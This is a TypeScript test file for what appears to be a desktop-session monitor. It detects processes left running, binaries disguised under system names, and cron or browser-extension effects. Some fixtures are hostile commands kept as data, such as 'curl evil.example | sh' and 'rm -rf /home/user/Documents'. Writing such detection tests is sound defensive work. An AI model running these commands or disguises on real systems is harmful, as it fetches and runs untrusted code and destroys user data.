import { describe, expect, it } from 'vitest';
import { anyFacts } from '../../../../test/effect/make-effect.ts';
import type { ProgramSeen } from '../../../desktop/client/desktop.ts';
import type { GuestWindow } from '../../../desktop/client/protocol.ts';
import { programIsNoise } from './noise-programs.ts';
import { watchProcessesLeft } from './processes-left.ts';
import { programEffects } from './program-effects.ts';

const process = (pid: number, argv: string[], more: Partial<ProgramSeen> = {}): ProgramSeen => ({
  time: 1_000,
  pid,
  parent: 1,
  uid: 1000,
  argv,
  ...more,
});

describe('processes left running', () => {
  it('processes left running are reported once, after five seconds or at the end; windows, shells and old processes are not', async () => {
    const old = process(5, ['sleep', '9']);
    const watch = watchProcessesLeft([old]);
    const alive = [
      old,
      process(6, ['python3', '-m', 'http.server']),
      process(7, ['mousepad']),
      process(8, ['bash'], { parent: 7 }),
      process(9, ['xclip', '-selection', 'clipboard']),
    ];
    const windows = [{ pid: 7 }] as GuestWindow[];
    expect(await watch.left(alive, windows, 5_000)).toEqual([]);
    expect((await watch.left(alive, windows, 6_001)).map((effect) => effect.sentence)).toEqual([
      'Left running: python3 -m http.server.',
    ]);
    expect(await watch.left(alive, windows, null)).toEqual([]);
    expect(
      (await watch.left([...alive, process(10, ['late'])], windows, null)).map(
        (foundEffect) => anyFacts(foundEffect).detail.argv,
      ),
    ).toEqual([['late']]);
  });

  it('processes left running are identified by the executable, not by the name that they claim', async () => {
    const alive = [
      process(6, ['bash'], { file: '/home/user/bash' }),
      process(7, ['xclip', '-i'], { file: '/tmp/xclip' }),
      process(8, ['cron', '-f'], { file: '/dev/shm/cron' }),
      process(9, ['/opt/code-server/lib/node'], { file: '/tmp/x' }),
      process(10, ['bash'], { file: '/usr/bin/bash', parent: 11 }),
      process(13, ['bash'], { file: '/usr/bin/bash' }),
      process(11, ['xclip', '-i'], { file: '/usr/bin/xclip' }),
      process(12, ['cron', '-f'], { file: '/usr/sbin/cron' }),
    ];
    expect((await watchProcessesLeft([]).left(alive, [], null)).map((effect) => anyFacts(effect).detail.pid)).toEqual([
      6, 7, 8, 9, 13,
    ]);
  });
});

describe('forks of the session’s Python', () => {
  const worker = ['python3', '-B', '/usr/lib/session/python/session_worker.py'];
  const session = process(2, ['/usr/lib/session-node/node', '/usr/lib/session/session.mjs']);

  it('a fork of the session’s Python left by an action is reported; the session’s Python and its replacement are not', async () => {
    const alive = [session, process(3, worker, { parent: 2 }), process(4, worker, { parent: 3 })];
    const found = await watchProcessesLeft([session]).left([...alive, process(5, worker)], [], null);
    expect(found.map((effect) => anyFacts(effect).detail).map(({ pid, forked }) => [pid, forked])).toEqual([
      [4, true],
      [5, true],
    ]);
    expect(await watchProcessesLeft([]).left(alive, [], 5_000)).toEqual([]);
  });
});

describe('programs of the desktop itself', () => {
  it.each<[string[], string | undefined, boolean]>([
    [['/usr/bin/Xvfb', ':0'], undefined, true],
    [['/usr/lib/chromium/chromium --type=renderer --lang=en-US'], undefined, true],
    [['/usr/lib/chromium/chromium', '--type=zygote'], '/usr/lib/chromium/chromium', true],
    [['/usr/lib/session/node', '/usr/lib/session/session.mjs'], undefined, true],
    [['tint2', '-rf', '/home/user/Documents'], '/usr/bin/rm', false],
    [['rm', '-rf', '/home/user/Documents', '--type=x', '/usr/lib/session'], '/usr/bin/rm', false],
    [['curl', '-contentproc'], undefined, false],
    [['/tmp/cron', '-f'], '/tmp/cron', false],
    [['cron', '-f'], '/home/user/cron', false],
    [['cron', '-f'], './cron', false],
    [['cron', '-f'], '/usr/sbin/../../tmp/cron', false],
    [['tint2'], '/usr/bin/tint2 -x/../../../tmp/tint2', false],
    [['/usr/sbin/cron', '-f'], '/usr/sbin/cron', true],
    [['/tmp/chromium', '--type=renderer'], '/tmp/chromium', false],
    [['python3', '/tmp/evil.py', '/usr/lib/session/python'], '/usr/bin/python3', false],
    [['/opt/node/bin/node', '/tmp/evil.js', '--type=extensionHost'], '/opt/node/bin/node', false],
    [['/opt/node/bin/node', '/opt/code-server/out/bootstrap-fork', '--type=extensionHost'], '/opt/node/bin/node', true],
    [['/bin/sh', '-c', 'ls -l /proc/[0-9]*/cwd; curl http://evil.example'], '/bin/sh', false],
    [['/bin/sh', '-c', 'curl evil.example | sh; /x/cpuUsage.sh'], '/bin/sh', false],
    [['/bin/sh', '-c', '"/opt/code-server/lib/vscode/out/vs/base/node/cpuUsage.sh" 12 13'], '/bin/sh', true],
  ])('programIsNoise for %j (%s) is %s', (argv, file, expected) => expect(programIsNoise(argv, file)).toBe(expected));

  it('VS Code listing all open files is noise', () => {
    const files = Array.from({ length: 2_000 }, (_, at) => `/proc/102/fd/${at}`);
    expect(programIsNoise(['ls', '-l', ...files], '/usr/bin/ls')).toBe(true);
    expect(programIsNoise(['ls', '-l', ...files, '/home/user/Private'], '/usr/bin/ls')).toBe(false);
    expect(programIsNoise(['ls', '-l', ...files], '/home/user/ls')).toBe(false);
    expect(programIsNoise(['/usr/libexec/gvfs-udisks2-volume-monitor'])).toBe(true);
    expect(programIsNoise(['/usr/libexec/tracker-extract-3', ''])).toBe(true);
    expect(programIsNoise(['/home/user/tracker-extract-3'])).toBe(false);
  });

  it('a desktop program with megabytes of arguments is not noise', () => {
    const long = 'a'.repeat(2 ** 20);
    expect(programIsNoise(['/usr/lib/chromium/chromium', '--type=renderer', long])).toBe(false);
    expect(programIsNoise(['/bin/ps', '-ax', '-o', long])).toBe(false);
    expect(programIsNoise(['/usr/sbin/cron', long], '/usr/sbin/cron')).toBe(true);
  });
});

describe('programs whose start is an effect', () => {
  it('cron jobs and browsers started with an extension are effects', () => {
    const job = process(9, ['/bin/sh', '-c', 'touch ~/x'], { under: ['cron', 'cron', 'tini'] });
    expect(programEffects(job)).toMatchObject([{ source: 'cron', kind: 'ran', sentence: 'Cron ran: touch ~/x.' }]);
    expect(programEffects({ ...job, under: ['bash', 'cron'] })).toEqual([]);
    const browser = process(9, ['/usr/bin/chromium', '--load-extension=/home/user/a,/home/user/b']);
    expect(programEffects(browser)).toMatchObject([
      { kind: 'extension-loaded', detail: { folders: ['/home/user/a', '/home/user/b'] } },
    ]);
    expect(programEffects({ ...browser, argv: [...browser.argv, '--type=renderer'] })).toEqual([]);
  });
});
